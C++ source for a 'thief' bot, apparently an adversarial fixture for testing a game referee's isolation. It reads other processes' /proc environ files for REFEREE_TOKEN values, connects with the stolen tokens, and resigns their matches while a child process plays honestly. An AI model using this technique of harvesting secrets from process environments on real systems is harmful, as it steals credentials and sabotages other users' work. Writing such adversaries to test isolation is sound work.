// A bot that steals: it reads the tokens of other bots in /proc, opens their streams and resigns
// their matches, while a program that it starts plays its own.
//
//   thief BOT [ARGUMENT...]
//
// It tries each foreign token at its owner's address and at its own. It says on stderr what it has
// found ("found a token at ADDRESS"), and when it has a stream ("plays as NAME") or has resigned a
// match there ("resigned MATCH").
#include <grpcpp/grpcpp.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <iterator>
#include <memory>
#include <set>
#include <string>
#include <thread>
#include <utility>
#include <vector>

#include "proto/referee/v1/bot_service.grpc.pb.h"

namespace {

namespace v1 = ::referee::v1;

// An address and a token.
using Key = std::pair<std::string, std::string>;

// The value of a variable in the text of an environment; empty if it is not there.
std::string ValueOf(const std::string& environment, const std::string& name) {
  const std::string prefix = '\0' + name + '=';
  const size_t at = ('\0' + environment).find(prefix);
  if (at == std::string::npos) return "";
  return std::string(environment.c_str() + at + prefix.size() - 1);
}

// What other processes have in their environments.
std::set<Key> ForeignKeys(const Key& own) {
  std::set<Key> keys;
  for (const auto& process : std::filesystem::directory_iterator("/proc")) {
    std::ifstream file(process.path() / "environ", std::ios::binary);
    const std::string environment(std::istreambuf_iterator<char>(file), {});
    const Key key = {ValueOf(environment, "REFEREE_ADDRESS"),
                     ValueOf(environment, "REFEREE_TOKEN")};
    // Of this duel only: its sockets are beside our own.
    const std::string folder = own.first.substr(0, own.first.rfind('/'));
    if (key.second.empty() || key.second == own.second || key.first.find(folder) != 0) continue;
    keys.insert(key);
    keys.insert({own.first, key.second});
  }
  return keys;
}

// Plays as the owner of a token, as badly as can be, until the stream ends.
void Steal(const Key& key) {
  grpc::ChannelArguments arguments;
  arguments.SetInt(GRPC_ARG_ENABLE_HTTP_PROXY, 0);
  const auto channel =
      grpc::CreateCustomChannel(key.first, grpc::InsecureChannelCredentials(), arguments);
  const auto stub = v1::BotService::NewStub(channel);
  grpc::ClientContext context;
  const auto stream = stub->Play(&context);
  v1::PlayRequest hello;
  hello.add_items()->mutable_hello()->set_token(key.second);
  hello.mutable_items(0)->mutable_hello()->set_max_matches(16);
  stream->Write(hello);
  v1::PlayResponse said;
  while (stream->Read(&said)) {
    v1::PlayRequest answer;
    const auto resign = [&answer](const std::string& match) {
      std::cerr << "thief: resigned " << match << std::endl;
      answer.add_items()->mutable_resign()->set_match_id(match);
    };
    for (const v1::RefereeItem& item : said.items()) {
      if (item.has_welcome()) std::cerr << "thief: plays as " << item.welcome().bot() << std::endl;
      if (item.has_match_start()) resign(item.match_start().match().match_id());
      if (item.has_turn_request()) resign(item.turn_request().match_id());
    }
    if (answer.items_size() > 0) stream->Write(answer);
  }
  stream->Finish();
}

}  // namespace

int main(int argc, char** argv) {
  const char* address = std::getenv("REFEREE_ADDRESS");
  const char* token = std::getenv("REFEREE_TOKEN");
  if (argc < 2 || address == nullptr || token == nullptr) {
    std::cerr << "thief: give a bot, and set REFEREE_ADDRESS and REFEREE_TOKEN" << std::endl;
    return 2;
  }
  const pid_t honest = fork();
  if (honest == 0) {
    execvp(argv[1], argv + 1);
    _exit(127);
  }
  std::set<Key> found;
  while (waitpid(honest, nullptr, WNOHANG) == 0) {
    for (const Key& key : ForeignKeys({address, token})) {
      if (found.insert(key).second) {
        std::cerr << "thief: found a token at " << key.first << std::endl;
        // It tries again and again.
        std::thread([key] {
          for (;;) {
            Steal(key);
            std::this_thread::sleep_for(std::chrono::milliseconds(20));
          }
        }).detach();
      }
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(5));
  }
  _exit(0);
}
